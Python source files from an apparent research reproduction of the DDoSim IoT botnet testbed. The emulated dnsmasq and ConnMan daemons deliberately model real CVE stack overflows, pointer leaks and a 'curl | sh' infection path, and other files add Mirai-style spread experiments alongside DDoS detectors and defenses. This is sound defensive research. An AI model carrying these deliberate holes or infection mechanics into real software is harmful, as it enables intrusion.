                raise ShellError(f"rm: cannot remove {path!r}") from None
    return b""


def _builtin_sh(ctx, args: List[str], stdin: bytes, allow_curl: bool):
    if len(args) >= 2 and args[0] == "-c":
        return (yield from run_script(ctx, args[1], allow_curl=allow_curl))
    if args and not args[0].startswith("-"):
        script = ctx.fs.read_file(args[0]).decode("utf-8", "replace")
        return (yield from run_script(ctx, script, allow_curl=allow_curl))
    # No args: interpret stdin as a script (the `curl ... | sh` case).
    return (yield from run_script(ctx, stdin.decode("utf-8", "replace"),
                                  allow_curl=allow_curl))


def _exec_binary(ctx, argv: List[str], background: bool):
    try:
        process = ctx.spawn(argv)
    except Exception as error:  # noqa: BLE001 - surface as shell error
        raise ShellError(f"sh: {argv[0]}: {error}") from None
    if background:
        return b""
    result = yield process.future
    if isinstance(result, bytes):
        return result
    return b""


def make_shell_program(allow_curl: bool = True):
    """Program factory for ``/bin/sh`` image files.

    ``allow_curl=False`` builds the vendor-hardened shell the paper's
    insight suggests (no download tool on the device).
    """

    def sh(ctx):
        argv = ctx.argv
        if len(argv) >= 3 and argv[1] == "-c":
            return (yield from run_script(ctx, argv[2], allow_curl=allow_curl))
        if len(argv) >= 2:
            script = ctx.fs.read_file(argv[1]).decode("utf-8", "replace")
            return (yield from run_script(ctx, script, allow_curl=allow_curl))
        return b""

    return sh
