"""The Dnsmasq analogue: a DHCPv6 server with the CVE-2017-14493-shaped
stack overflow in its RELAY-FORW handling.

Real-world flow (paper §III-A): dnsmasq's ``dhcp6_maybe_relay`` copies
relay-message contents into a fixed stack buffer; the attacker multicasts
a crafted RELAYFORW to ``ff02::1:2`` (all DHCP relay agents and servers)
because "there is no broadcast address in IPv6", and every listening
dnsmasq parses it.

Emulated flow: the daemon binds UDP 547, joins the multicast group, and

* answers ``INFORMATION-REQUEST`` probes with a REPLY whose status option
  carries the verbose diagnostic (the code-pointer leak for ASLR builds);
* handles ``SOLICIT`` benignly (ADVERTISE) — normal DHCPv6 service;
* feeds ``RELAY-FORW``'s relay-message option through the vulnerable
  unbounded copy into a 96-byte frame — the exploitation path.
"""

from __future__ import annotations

from repro.binaries.binfmt import (
    BinaryImage,
    BinaryRuntime,
    register_program,
    report_hijack as _report_hijack,
)
from repro.memsafety.stack import StackFrame
from repro.memsafety.syscalls import SyscallInvocation, perform_execlp
from repro.netsim.address import ALL_DHCP_RELAY_AGENTS_AND_SERVERS
from repro.netsim.process import ProcessKilled
from repro.services import dhcp6
from repro.services.exploits import DNSMASQ_RELAY_BUFFER, encode_diagnostic


def dnsmasq_program(image: BinaryImage):
    """Program factory registered for ``program_key='dnsmasq'``."""

    def dnsmasq(ctx):
        runtime = BinaryRuntime(image, ctx.rng)
        sock = ctx.netns.udp_socket(dhcp6.SERVER_PORT)
        sock.join_multicast(ALL_DHCP_RELAY_AGENTS_AND_SERVERS)
        ctx.bind_port_marker(dhcp6.SERVER_PORT)
        ctx.log("dnsmasq: DHCPv6 service on :547, joined ff02::1:2")
        try:
            while True:
                payload, (source, source_port) = yield sock.recvfrom()
                if payload is None:
                    continue
                action = _handle_message(
                    ctx, runtime, sock, payload, source, source_port
                )
                if action == "exit":
                    return
        except ProcessKilled:
            raise
        finally:
            ctx.release_port_marker(dhcp6.SERVER_PORT)
            sock.close()

    return dnsmasq


def _handle_message(ctx, runtime: BinaryRuntime, sock, payload: bytes,
                    source, source_port) -> str:
    try:
        message = dhcp6.Dhcp6Message.decode(payload)
    except dhcp6.Dhcp6DecodeError:
        return "ok"
    if message.msg_type == dhcp6.MSG_INFORMATION_REQUEST:
        # Reply with a status option; the verbose text leaks a pointer.
        reply = dhcp6.Dhcp6Message(
            dhcp6.MSG_REPLY,
            transaction_id=message.transaction_id,
            options=[
                dhcp6.Dhcp6Option(
                    dhcp6.OPTION_STATUS_CODE,
                    encode_diagnostic(runtime.leak_code_pointer()),
                )
            ],
        )
        sock.sendto(reply.encode(), source, source_port)
        return "ok"
    if message.msg_type == dhcp6.MSG_SOLICIT:
        advertise = dhcp6.Dhcp6Message(
            dhcp6.MSG_ADVERTISE,
            transaction_id=message.transaction_id,
            options=[dhcp6.Dhcp6Option(dhcp6.OPTION_SERVERID, b"repro-dnsmasq")],
        )
        sock.sendto(advertise.encode(), source, source_port)
        return "ok"
    if message.msg_type != dhcp6.MSG_RELAY_FORW:
        return "ok"
    relay_option = message.option(dhcp6.OPTION_RELAY_MSG)
    if relay_option is None:
        return "ok"
    frame = StackFrame(
        "dhcp6_maybe_relay",
        DNSMASQ_RELAY_BUFFER,
        return_address=runtime.legitimate_return_address,
    )
    if not runtime.image.vulnerable:
        frame.copy_checked(relay_option.data)
        return "ok"
    event = frame.copy_unchecked(relay_option.data)
    if not frame.hijacked:
        return "ok"
    outcome = runtime.run_hijacked(frame.return_address, event.spill)
    if outcome.succeeded:
        invocation = SyscallInvocation(outcome.syscall.name, outcome.syscall.args)
        ctx.log(f"dnsmasq: control-flow hijack -> {invocation.args!r}")
        _report_hijack(ctx, "dnsmasq", True)
        perform_execlp(invocation, ctx)
        return "exit"
    ctx.log(f"dnsmasq: crashed: {outcome.crash_reason}")
    _report_hijack(ctx, "dnsmasq", False, reason=outcome.crash_reason)
    return "exit"


register_program("dnsmasq", dnsmasq_program)


def make_dnsmasq_binary(
    version: str = "2.77",
    protections=("wx",),
    build_seed: int = 0xD45A,
    vulnerable: bool = True,
    architecture: str = "x86_64",
) -> BinaryImage:
    """A dnsmasq build.  2.78 fixed CVE-2017-14493; pass version "2.78"
    (or ``vulnerable=False``) for a patched build."""
    if version >= "2.78":
        vulnerable = False
    return BinaryImage(
        name="dnsmasq",
        version=version,
        program_key="dnsmasq",
        architecture=architecture,
        protections=protections,
        build_seed=build_seed,
        text_base=0x400000,
        file_size=380 * 1024,
        rss_bytes=int(2.8 * 1024 * 1024),
        vulnerable=vulnerable,
    )
