"""The ConnMan analogue: an IoT network manager with a vulnerable
DNS-proxy response parser (CVE-2017-12865 shape).

Real-world flow (English et al. / paper §III-A): ConnMan's ``dnsproxy``
forwards device DNS queries to a configured server; parsing a crafted
response smashes a fixed stack buffer, and a ROP payload makes the daemon
``execlp`` the infection one-liner.

Emulated flow: the daemon periodically resolves a hostname against the
server in ``$DNS_SERVER`` (the paper *manually configures Devs to listen
to the malicious DNS server*, §V-C).  Response handling copies the first
answer record's RDATA into a 64-byte :class:`StackFrame` buffer with
``copy_unchecked`` — unless the binary is a patched build, which
truncates.  A SERVFAIL response trips the daemon's verbose error path,
which reports a diagnostic *containing a code pointer* back to the
server: the info-leak the two-stage exploit needs under ASLR.
"""

from __future__ import annotations

from repro.binaries.binfmt import (
    BinaryImage,
    BinaryRuntime,
    register_program,
    report_hijack as _report_hijack,
)
from repro.memsafety.stack import StackFrame
from repro.memsafety.syscalls import SyscallInvocation, perform_execlp
from repro.netsim.address import AddressError, Ipv4Address, Ipv6Address
from repro.netsim.process import ProcessKilled, SimProcess
from repro.services import dns
from repro.services.exploits import CONNMAN_NAME_BUFFER, encode_diagnostic

#: hostname the device keeps resolving (NTP-style phone-home)
PHONE_HOME_NAME = "time.connman.example"
DEFAULT_QUERY_INTERVAL = 10.0
DNS_PORT = 53


def _parse_address(text: str):
    try:
        return Ipv6Address.parse(text) if ":" in text else Ipv4Address.parse(text)
    except AddressError as error:
        raise ValueError(f"connmand: bad DNS_SERVER {text!r}: {error}") from None


def connman_program(image: BinaryImage):
    """Program factory registered for ``program_key='connmand'``."""

    def connmand(ctx):
        env = ctx.container.env
        server_text = env.get("DNS_SERVER")
        if not server_text:
            ctx.log("connmand: no DNS_SERVER configured; idling")
            return
        server = _parse_address(server_text)
        server_port = int(env.get("DNS_PORT", DNS_PORT))
        interval = float(env.get("QUERY_INTERVAL", DEFAULT_QUERY_INTERVAL))
        runtime = BinaryRuntime(image, ctx.rng)
        sock = ctx.netns.udp_socket()
        ctx.bind_port_marker(DNS_PORT)  # the local dnsproxy side

        def query_loop(loop_ctx):
            query_id = loop_ctx.rng.randrange(1, 0xFFFF)
            # First query goes out quickly with per-device jitter so a
            # fleet does not synchronize.
            yield loop_ctx.sleep(loop_ctx.rng.uniform(0.5, 3.0))
            while True:
                query = dns.make_query(query_id, PHONE_HOME_NAME)
                sock.sendto(query.encode(), server, server_port)
                query_id = (query_id + 1) & 0xFFFF or 1
                yield loop_ctx.sleep(interval)

        sender = SimProcess(ctx.sim, query_loop(ctx), name="connman-dnsproxy")
        try:
            while True:
                payload, (source, source_port) = yield sock.recvfrom()
                if payload is None:
                    continue
                action = _handle_response(
                    ctx, runtime, sock, payload, source, source_port
                )
                if action == "exit":
                    return
        except ProcessKilled:
            raise
        finally:
            sender.kill()
            ctx.release_port_marker(DNS_PORT)
            sock.close()

    return connmand


def _handle_response(ctx, runtime: BinaryRuntime, sock, payload: bytes,
                     source, source_port) -> str:
    """Parse one DNS response; returns "ok" | "exit"."""
    try:
        message = dns.DnsMessage.decode(payload)
    except dns.DnsDecodeError:
        return "ok"  # junk; drop
    if not message.is_response:
        return "ok"
    if message.rcode == dns.RCODE_SERVFAIL:
        # Verbose error path: the diagnostic leaks a code pointer back to
        # the server (the modelled info-leak primitive).
        diagnostic = encode_diagnostic(runtime.leak_code_pointer())
        sock.sendto(diagnostic, source, source_port)
        return "ok"
    if not message.answers:
        return "ok"
    rdata = message.answers[0].rdata
    frame = StackFrame(
        "uncompress",
        CONNMAN_NAME_BUFFER,
        return_address=runtime.legitimate_return_address,
    )
    if not runtime.image.vulnerable:
        frame.copy_checked(rdata)  # patched build: bounded copy
        return "ok"
    event = frame.copy_unchecked(rdata)
    if not frame.hijacked:
        return "ok"
    outcome = runtime.run_hijacked(frame.return_address, event.spill)
    if outcome.succeeded:
        invocation = SyscallInvocation(outcome.syscall.name, outcome.syscall.args)
        ctx.log(f"connmand: control-flow hijack -> {invocation.args!r}")
        _report_hijack(ctx, "connmand", True)
        perform_execlp(invocation, ctx)
        # execlp replaces the process image: the daemon is gone.
        return "exit"
    ctx.log(f"connmand: crashed: {outcome.crash_reason}")
    _report_hijack(ctx, "connmand", False, reason=outcome.crash_reason)
    return "exit"


register_program("connmand", connman_program)


def make_connman_binary(
    version: str = "1.34",
    protections=("wx",),
    build_seed: int = 0xC044,
    vulnerable: bool = True,
    architecture: str = "x86_64",
) -> BinaryImage:
    """A ConnMan build.  Versions >= 1.35 shipped the CVE-2017-12865 fix;
    pass ``vulnerable=False`` (or version "1.35") for a patched build."""
    if version >= "1.35":
        vulnerable = False
    return BinaryImage(
        name="connmand",
        version=version,
        program_key="connmand",
        architecture=architecture,
        protections=protections,
        build_seed=build_seed,
        text_base=0x400000,
        file_size=420 * 1024,
        rss_bytes=int(3.5 * 1024 * 1024),
        vulnerable=vulnerable,
    )
