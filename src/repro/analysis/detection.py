"""A from-scratch logistic-regression DDoS detector (use case V-A1).

Implements the classifier with plain numpy (standardization + batch
gradient descent with L2 regularization) rather than an ML framework —
the environment has none, and the point of the use case is the *data
path* DDoSim enables: simulate mixed benign/attack traffic, extract
features, train, evaluate.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional, Tuple

import numpy as np


@dataclass
class DetectionMetrics:
    """Binary-classification quality summary."""

    accuracy: float
    precision: float
    recall: float
    f1: float
    true_positives: int
    false_positives: int
    true_negatives: int
    false_negatives: int

    @classmethod
    def from_predictions(cls, y_true: np.ndarray, y_pred: np.ndarray) -> "DetectionMetrics":
        y_true = np.asarray(y_true).astype(int)
        y_pred = np.asarray(y_pred).astype(int)
        tp = int(np.sum((y_true == 1) & (y_pred == 1)))
        fp = int(np.sum((y_true == 0) & (y_pred == 1)))
        tn = int(np.sum((y_true == 0) & (y_pred == 0)))
        fn = int(np.sum((y_true == 1) & (y_pred == 0)))
        total = max(len(y_true), 1)
        precision = tp / (tp + fp) if tp + fp else 0.0
        recall = tp / (tp + fn) if tp + fn else 0.0
        f1 = (
            2 * precision * recall / (precision + recall)
            if precision + recall
            else 0.0
        )
        return cls(
            accuracy=(tp + tn) / total,
            precision=precision,
            recall=recall,
            f1=f1,
            true_positives=tp,
            false_positives=fp,
            true_negatives=tn,
            false_negatives=fn,
        )


class LogisticRegressionClassifier:
    """Standardize -> sigmoid(w.x + b), trained with batch GD + L2."""

    def __init__(
        self,
        learning_rate: float = 0.1,
        epochs: int = 500,
        l2: float = 1e-3,
        seed: int = 0,
    ):
        self.learning_rate = learning_rate
        self.epochs = epochs
        self.l2 = l2
        self.seed = seed
        self.weights: Optional[np.ndarray] = None
        self.bias: float = 0.0
        self._mean: Optional[np.ndarray] = None
        self._std: Optional[np.ndarray] = None
        self.loss_history: list = []

    @staticmethod
    def _sigmoid(z: np.ndarray) -> np.ndarray:
        return 1.0 / (1.0 + np.exp(-np.clip(z, -30.0, 30.0)))

    def _standardize(self, X: np.ndarray, fit: bool) -> np.ndarray:
        if fit:
            self._mean = X.mean(axis=0)
            self._std = X.std(axis=0)
            self._std[self._std == 0] = 1.0
        assert self._mean is not None and self._std is not None
        return (X - self._mean) / self._std

    def fit(self, X: np.ndarray, y: np.ndarray) -> "LogisticRegressionClassifier":
        X = np.asarray(X, dtype=float)
        y = np.asarray(y, dtype=float)
        if X.ndim != 2 or len(X) != len(y):
            raise ValueError("X must be 2-D and aligned with y")
        Xs = self._standardize(X, fit=True)
        rng = np.random.default_rng(self.seed)
        self.weights = rng.normal(0.0, 0.01, size=Xs.shape[1])
        self.bias = 0.0
        n = len(y)
        for _ in range(self.epochs):
            logits = Xs @ self.weights + self.bias
            probabilities = self._sigmoid(logits)
            error = probabilities - y
            gradient_w = Xs.T @ error / n + self.l2 * self.weights
            gradient_b = float(error.mean())
            self.weights -= self.learning_rate * gradient_w
            self.bias -= self.learning_rate * gradient_b
            eps = 1e-9
            loss = float(
                -np.mean(
                    y * np.log(probabilities + eps)
                    + (1 - y) * np.log(1 - probabilities + eps)
                )
            )
            self.loss_history.append(loss)
        return self

    def predict_proba(self, X: np.ndarray) -> np.ndarray:
        if self.weights is None:
            raise RuntimeError("fit() before predict")
        Xs = self._standardize(np.asarray(X, dtype=float), fit=False)
        return self._sigmoid(Xs @ self.weights + self.bias)

    def predict(self, X: np.ndarray, threshold: float = 0.5) -> np.ndarray:
        return (self.predict_proba(X) >= threshold).astype(int)

    def evaluate(self, X: np.ndarray, y: np.ndarray) -> DetectionMetrics:
        return DetectionMetrics.from_predictions(y, self.predict(X))


def train_test_split(
    X: np.ndarray, y: np.ndarray, test_fraction: float = 0.3, seed: int = 0
) -> Tuple[np.ndarray, np.ndarray, np.ndarray, np.ndarray]:
    """Shuffled split; returns (X_train, y_train, X_test, y_test)."""
    if not 0.0 < test_fraction < 1.0:
        raise ValueError("test_fraction must be in (0, 1)")
    rng = np.random.default_rng(seed)
    order = rng.permutation(len(X))
    cut = int(len(X) * (1.0 - test_fraction))
    train_idx, test_idx = order[:cut], order[cut:]
    return X[train_idx], y[train_idx], X[test_idx], y[test_idx]
