"""Epidemic models of botnet spread vs DDoSim propagation (use case V-A2).

The paper: "Researchers can run experiments in DDoSim and extract the
number of infected devices in Devs at any time step, enabling them to
assess whether these more realistic simulations align with their models."

This module does exactly that end to end:

1. :func:`run_propagation_experiment` — DDoSim with *one* seeded
   infection (the attacker exploits a single Dev), after which the C&C
   orders exploit-armed scanning (:mod:`repro.botnet.scanner`); the C&C's
   registration log is the measured infection curve ``I(t)``;
2. :func:`si_curve` / :func:`sir_curve` — the SI logistic solution and
   the SIR ODE system (solved with scipy);
3. :func:`fit_si_model` — least-squares fit of the contact rate β to the
   measured curve, with goodness-of-fit.

Devices whose daemon was consumed by ``execlp`` stop answering probes, so
"infected" implies "no longer susceptible" — an SI process with no
recovery, which is what the fit targets.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional, Tuple

import numpy as np
from scipy.integrate import odeint
from scipy.optimize import curve_fit

from repro.botnet.scanner import scan_config_json
from repro.core.config import SimulationConfig
from repro.core.framework import DDoSim
from repro.netsim.address import Ipv6Address
from repro.netsim.process import SimProcess, Timeout


def si_curve(times: np.ndarray, beta: float, population: int, i0: int = 1) -> np.ndarray:
    """Analytic SI solution: logistic growth of the infected count."""
    times = np.asarray(times, dtype=float)
    if i0 <= 0 or population <= 0:
        raise ValueError("population and i0 must be positive")
    growth = np.exp(beta * times)
    return population * i0 * growth / (population - i0 + i0 * growth)


def sir_curve(
    times: np.ndarray, beta: float, gamma: float, population: int, i0: int = 1
) -> np.ndarray:
    """Numeric SIR solution; returns the infected component ``I(t)``."""
    times = np.asarray(times, dtype=float)

    def derivatives(state, _t):
        susceptible, infected, _recovered = state
        new_infections = beta * susceptible * infected / population
        return [
            -new_infections,
            new_infections - gamma * infected,
            gamma * infected,
        ]

    initial = [population - i0, i0, 0.0]
    solution = odeint(derivatives, initial, times)
    return solution[:, 1]


@dataclass
class SiFit:
    """A fitted SI model and its goodness of fit."""

    beta: float
    rmse: float
    r_squared: float


def fit_si_model(
    times: np.ndarray, infected: np.ndarray, population: int, i0: int = 1
) -> SiFit:
    """Least-squares fit of β to a measured infection curve."""
    times = np.asarray(times, dtype=float)
    infected = np.asarray(infected, dtype=float)

    def model(t, beta):
        return si_curve(t, beta, population, i0)

    (beta,), _covariance = curve_fit(
        model, times, infected, p0=[0.05], bounds=(1e-6, 10.0), maxfev=10000
    )
    predicted = model(times, beta)
    residuals = infected - predicted
    rmse = float(np.sqrt(np.mean(residuals ** 2)))
    total_variance = float(np.sum((infected - infected.mean()) ** 2))
    r_squared = 1.0 - float(np.sum(residuals ** 2)) / total_variance if total_variance else 0.0
    return SiFit(beta=float(beta), rmse=rmse, r_squared=r_squared)


@dataclass
class PropagationResult:
    """Output of one propagation (worm-spread) experiment."""

    n_devs: int
    pool_size: int
    probes_per_second: float
    duration: float
    #: sampled measurement grid (1-second steps from the seed infection)
    times: List[float] = field(default_factory=list)
    infected: List[int] = field(default_factory=list)
    seed_time: float = 0.0
    final_infected: int = 0

    def as_arrays(self) -> Tuple[np.ndarray, np.ndarray]:
        return np.asarray(self.times), np.asarray(self.infected)


def run_propagation_experiment(
    n_devs: int = 30,
    seed: int = 1,
    duration: float = 400.0,
    probes_per_second: float = 2.0,
    pool_factor: float = 4.0,
    config: Optional[SimulationConfig] = None,
) -> PropagationResult:
    """Seed one infection, let Mirai scanning spread, measure ``I(t)``.

    ``pool_factor`` scales the scanned address pool relative to the fleet
    size (sparser pools mean lower hit rates and slower spread — a knob
    the epidemic comparison sweeps).
    """
    if config is None:
        config = SimulationConfig(
            n_devs=n_devs,
            seed=seed,
            binary_mix="dnsmasq",
            extra_services=False,
            sim_duration=duration + 120.0,
        )
    ddosim = DDoSim(config)
    ddosim.attacker.max_initial_infections = 1
    ddosim.build()
    ddosim.attacker.start()
    ddosim.devs.start_all()
    ddosim.tserver.start()

    sim = ddosim.sim
    cnc = ddosim.attacker.cnc
    iids = [dev.ipv6.value & 0xFFFFFFFF for dev in ddosim.devs.devs]
    first = min(iids)
    pool_size = max(int(n_devs * pool_factor), max(iids) - first + 1)
    last = first + pool_size - 1
    base = ddosim.devs.devs[0].ipv6.value & ~((1 << 64) - 1)
    pool_prefix = str(Ipv6Address(base))

    result = PropagationResult(
        n_devs=config.n_devs,
        pool_size=pool_size,
        probes_per_second=probes_per_second,
        duration=duration,
    )

    def orchestrate():
        yield Timeout(sim, 0.5)
        yield cnc.wait_for_bots(1)  # patient zero recruited by the attacker
        result.seed_time = sim.now
        cnc.issue_scan(
            scan_config_json(
                pool_prefix,
                first,
                last,
                ddosim.devs.dnsmasq_binary,
                str(ddosim.attacker.address),
                probes_per_second=probes_per_second,
            )
        )
        yield Timeout(sim, duration)
        sim.stop()

    SimProcess(sim, orchestrate(), name="propagation-orchestrator")
    sim.run(until=config.sim_duration)

    # Build I(t) on a 1-second grid from the registration log.
    registrations = sorted(cnc.registration_times)
    times: List[float] = []
    infected: List[int] = []
    step = 0
    while step <= int(duration):
        t = result.seed_time + step
        times.append(float(step))
        infected.append(sum(1 for r in registrations if r <= t))
        step += 1
    result.times = times
    result.infected = infected
    result.final_infected = len(cnc.seen_addresses)
    return result
