"""End-to-end dataset generation for the ML-detection use case (V-A1).

"One example use case is testing a defense strategy by generating both
malicious DDoS and normal traffic to TServer, followed by analyzing
incoming traffic using an ML model ... Another use case involves
generating large traffic datasets" (§V-A1 of the paper).

:func:`generate_detection_dataset` does exactly that: it runs a DDoSim
scenario with extra benign clients streaming OnOff traffic at TServer,
captures every packet TServer receives, and slices the capture into
labelled feature windows ready for
:class:`repro.analysis.detection.LogisticRegressionClassifier`.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional, Tuple

import numpy as np

from repro.analysis.features import windows_from_capture
from repro.core.config import SimulationConfig
from repro.core.framework import DDoSim
from repro.netsim.application import OnOffApplication
from repro.netsim.node import Node
from repro.netsim.tracing import PacketCapture


@dataclass
class DetectionDataset:
    """Labelled windows plus the run that produced them."""

    X: np.ndarray
    y: np.ndarray
    window: float
    attack_interval: Tuple[float, float]
    n_benign_clients: int

    @property
    def attack_fraction(self) -> float:
        return float(self.y.mean()) if len(self.y) else 0.0


def generate_detection_dataset(
    config: Optional[SimulationConfig] = None,
    n_benign_clients: int = 6,
    benign_rate_bps: float = 64_000.0,
    window: float = 1.0,
    seed: int = 1,
) -> DetectionDataset:
    """Run one mixed benign/attack scenario and return labelled windows."""
    if config is None:
        config = SimulationConfig(
            n_devs=10,
            seed=seed,
            attack_duration=40.0,
            recruit_timeout=40.0,
            sim_duration=250.0,
        )
    ddosim = DDoSim(config)
    capture = PacketCapture(ddosim.tserver.node)

    # Benign clients: web-ish OnOff streams at TServer port 80.
    rng_seedable = range(n_benign_clients)
    for index in rng_seedable:
        client = Node(ddosim.sim, f"benign{index:02d}")
        ddosim.star.attach_host(client, 2e6, delay=0.015)
        app = OnOffApplication(
            client,
            ddosim.tserver.address,
            80,
            rate_bps=benign_rate_bps,
            packet_size=300 + 50 * (index % 4),
            on_seconds=4.0 + index % 3,
            off_seconds=2.0 + index % 2,
        )
        app.schedule_start(0.5 + 0.3 * index)

    result = ddosim.run()
    capture.close()  # stop tapping: sweeps create many captures per process
    attack_start = result.attack.issued_at
    attack_end = attack_start + result.attack.duration
    X, y = windows_from_capture(
        capture.records,
        start=0.0,
        end=ddosim.sim.now,
        window=window,
        attack_interval=(attack_start, attack_end),
    )
    return DetectionDataset(
        X=X,
        y=y,
        window=window,
        attack_interval=(attack_start, attack_end),
        n_benign_clients=n_benign_clients,
    )
