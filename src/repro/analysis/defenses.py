"""Deployable defenses for the mitigation-testing use case (§V-A1).

The paper positions DDoSim as a place to "implement and evaluate defense
strategies ... measuring their effectiveness in mitigating or preventing
exploits".  Two defenses are provided, matching its insights:

* :class:`PerSourcePolicer` — a token-bucket rate limiter per source
  address installed on TServer's delivery path (the "limit the available
  data rate" insight, applied at the victim edge).  Installing it makes
  the *accepted* attack magnitude collapse while leaving well-behaved
  benign flows untouched.
* :class:`ClassifierFirewall` — wires a trained
  :class:`repro.analysis.detection.LogisticRegressionClassifier` in front
  of the sink: traffic windows flagged as attack are dropped.  This is
  the full detect-then-mitigate loop of ML-based DDoS defenses.
"""

from __future__ import annotations

from typing import Dict

from repro.netsim.headers import UdpHeader
from repro.netsim.node import Node


class PerSourcePolicer:
    """Token-bucket policing per source address on a node's delivery path.

    Sits *before* other delivery taps and the transport demux by wrapping
    the node's UDP default handler installation: packets from sources
    exceeding their budget are counted and dropped.
    """

    def __init__(
        self,
        node: Node,
        rate_bps: float = 128_000.0,
        burst_bytes: int = 32_000,
    ):
        if rate_bps <= 0 or burst_bytes <= 0:
            raise ValueError("rate and burst must be positive")
        self.node = node
        self.sim = node.sim
        self.rate_bps = rate_bps
        self.burst_bytes = burst_bytes
        #: source -> (tokens, last_refill_time)
        self._buckets: Dict[object, list] = {}
        self.accepted_packets = 0
        self.accepted_bytes = 0
        self.dropped_packets = 0
        self.dropped_bytes = 0
        self._inner_handler = None
        self._installed = False

    def install(self) -> None:
        """Interpose on the node's promiscuous UDP handler (the sink)."""
        if self._installed:
            return
        self._inner_handler = self.node.udp.default_handler
        self.node.udp.set_default_handler(self._filter)
        self._installed = True

    def uninstall(self) -> None:
        if not self._installed:
            return
        self.node.udp.set_default_handler(self._inner_handler)
        self._installed = False

    def _allow(self, source, size: int) -> bool:
        now = self.sim.now
        bucket = self._buckets.get(source)
        if bucket is None:
            bucket = [float(self.burst_bytes), now]
            self._buckets[source] = bucket
        tokens, last = bucket
        tokens = min(
            self.burst_bytes, tokens + (now - last) * self.rate_bps / 8.0
        )
        if tokens >= size:
            bucket[0] = tokens - size
            bucket[1] = now
            return True
        bucket[0] = tokens
        bucket[1] = now
        return False

    def _filter(self, packet, udp_header: UdpHeader, ip_header) -> None:
        size = packet.payload_size + udp_header.wire_size + type(ip_header).wire_size
        if self._allow(ip_header.src, size):
            self.accepted_packets += 1
            self.accepted_bytes += size
            if self._inner_handler is not None:
                self._inner_handler(packet, udp_header, ip_header)
        else:
            self.dropped_packets += 1
            self.dropped_bytes += size

    @property
    def drop_ratio(self) -> float:
        total = self.accepted_packets + self.dropped_packets
        return self.dropped_packets / total if total else 0.0


class ClassifierFirewall:
    """Window-based detect-then-drop firewall in front of the sink.

    Every ``window`` seconds it featurizes the traffic seen in the last
    window with the trained classifier's feature extractor; if the window
    classifies as attack, the *next* window's unmatched-port UDP traffic
    is dropped (a reactive mitigation with one-window latency, like
    real-world pipelines).
    """

    def __init__(self, node: Node, classifier, window: float = 1.0):
        from repro.analysis.features import window_features
        from repro.netsim.tracing import CapturedPacket

        self.node = node
        self.sim = node.sim
        self.classifier = classifier
        self.window = window
        self._window_features = window_features
        self._record_type = CapturedPacket
        self._current_window: list = []
        self.blocking = False
        self.windows_blocked = 0
        self.packets_dropped = 0
        self._inner_handler = None
        self._installed = False

    def install(self) -> None:
        if self._installed:
            return
        self._inner_handler = self.node.udp.default_handler
        self.node.udp.set_default_handler(self._filter)
        self.sim.schedule(self.window, self._rotate)
        self._installed = True

    def _filter(self, packet, udp_header, ip_header) -> None:
        record = self._record_type(
            time=self.sim.now,
            src=ip_header.src,
            dst=ip_header.dst,
            protocol=ip_header.protocol,
            src_port=udp_header.src_port,
            dst_port=udp_header.dst_port,
            size=packet.payload_size + udp_header.wire_size + type(ip_header).wire_size,
        )
        self._current_window.append(record)
        if self.blocking:
            self.packets_dropped += 1
            return
        if self._inner_handler is not None:
            self._inner_handler(packet, udp_header, ip_header)

    def _rotate(self) -> None:
        import numpy as np

        records, self._current_window = self._current_window, []
        if records:
            features = np.array(
                [self._window_features(records, self.window)], dtype=float
            )
            self.blocking = bool(self.classifier.predict(features)[0])
        else:
            self.blocking = False
        if self.blocking:
            self.windows_blocked += 1
        self.sim.schedule(self.window, self._rotate)
