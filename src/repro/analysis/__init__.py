"""repro.analysis — the paper's §V use cases, implemented.

* :mod:`repro.analysis.features` + :mod:`repro.analysis.detection` —
  use case V-A1 ("Testing or Validating Defense Strategies"): extract
  windowed features from TServer-side packet captures of mixed
  benign/attack traffic and train a (from-scratch, numpy) logistic
  regression DDoS classifier;
* :mod:`repro.analysis.epidemic` — use case V-A2 ("Testing Mathematical
  Models of Botnet Spread"): run exploit-armed Mirai scanning
  propagation in DDoSim, read out the infection curve, and compare it
  against SI/SIR epidemic ODE models.
"""

from repro.analysis.detection import (
    DetectionMetrics,
    LogisticRegressionClassifier,
    train_test_split,
)
from repro.analysis.epidemic import (
    PropagationResult,
    fit_si_model,
    run_propagation_experiment,
    si_curve,
    sir_curve,
)
from repro.analysis.features import FEATURE_NAMES, windows_from_capture

__all__ = [
    "DetectionMetrics",
    "FEATURE_NAMES",
    "LogisticRegressionClassifier",
    "PropagationResult",
    "fit_si_model",
    "run_propagation_experiment",
    "si_curve",
    "sir_curve",
    "train_test_split",
    "windows_from_capture",
]
