"""Traffic features for ML-based DDoS detection (use case V-A1).

"Most ML-based DDoS detection or mitigation approaches rely on extracting
features from incoming network traffic (e.g., IP address, traffic rate)
and feeding them into an ML model" (§V-A1).  These are the classic
flow-window features: per time window over a TServer-side
:class:`repro.netsim.tracing.PacketCapture` we compute rates, packet-size
statistics, source dispersion and protocol mix.
"""

from __future__ import annotations

import math
from collections import Counter
from typing import List, Sequence, Tuple

import numpy as np

from repro.netsim.headers import PROTO_TCP, PROTO_UDP
from repro.netsim.tracing import CapturedPacket

FEATURE_NAMES = (
    "packet_rate",          # packets / second
    "byte_rate",            # bytes / second
    "mean_packet_size",
    "std_packet_size",
    "distinct_sources",
    "source_entropy",       # Shannon entropy over source addresses (bits)
    "udp_fraction",
    "tcp_fraction",
    "distinct_dst_ports",
    "top_source_share",     # traffic share of the busiest source
)


def _entropy(counts: Sequence[int]) -> float:
    total = sum(counts)
    if total == 0:
        return 0.0
    entropy = 0.0
    for count in counts:
        if count:
            probability = count / total
            entropy -= probability * math.log2(probability)
    return entropy


def window_features(records: Sequence[CapturedPacket], window: float) -> List[float]:
    """The feature vector for one window of captured packets."""
    if not records:
        return [0.0] * len(FEATURE_NAMES)
    sizes = np.array([record.size for record in records], dtype=float)
    sources = Counter(str(record.src) for record in records)
    ports = {record.dst_port for record in records}
    protocols = Counter(record.protocol for record in records)
    total = len(records)
    return [
        total / window,
        float(sizes.sum()) / window,
        float(sizes.mean()),
        float(sizes.std()),
        float(len(sources)),
        _entropy(list(sources.values())),
        protocols.get(PROTO_UDP, 0) / total,
        protocols.get(PROTO_TCP, 0) / total,
        float(len(ports)),
        max(sources.values()) / total,
    ]


def capture_records_from_flows(flows: Sequence[dict]) -> List[CapturedPacket]:
    """Expand ``repro report --flows`` records back into per-packet rows.

    Each flow record aggregates one (src, src_port, dst_port) stream into
    packet/byte totals plus first/last arrival times.  Reconstruction
